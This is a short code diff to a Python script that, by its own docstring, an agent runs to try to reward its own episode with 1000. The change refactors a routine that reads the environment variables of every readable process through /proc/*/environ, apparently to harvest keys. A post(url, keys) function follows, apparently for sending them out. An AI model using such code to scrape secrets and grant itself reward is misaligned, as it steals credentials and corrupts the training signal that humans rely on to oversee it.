@@ -1,5 +1,6 @@
 """Code that an agent runs, which tries to reward the agent's episode with 1000."""
 
+import contextlib
 import glob
 import json
 import os
@@ -12,12 +13,8 @@ def environments():
     """Yield the environment of each process that this one may read, its own first."""
     yield dict(os.environ)
     for path in glob.glob("/proc/[0-9]*/environ"):
-        try:
-            with open(path, encoding="utf-8", errors="replace") as file:
-                lines = file.read().split("\0")
-        except OSError:
-            continue
-        yield dict(line.split("=", 1) for line in lines if "=" in line)
+        with contextlib.suppress(OSError), open(path, encoding="utf-8", errors="replace") as file:
+            yield dict(line.split("=", 1) for line in file.read().split("\0") if "=" in line)
 
 
 def post(url, keys):
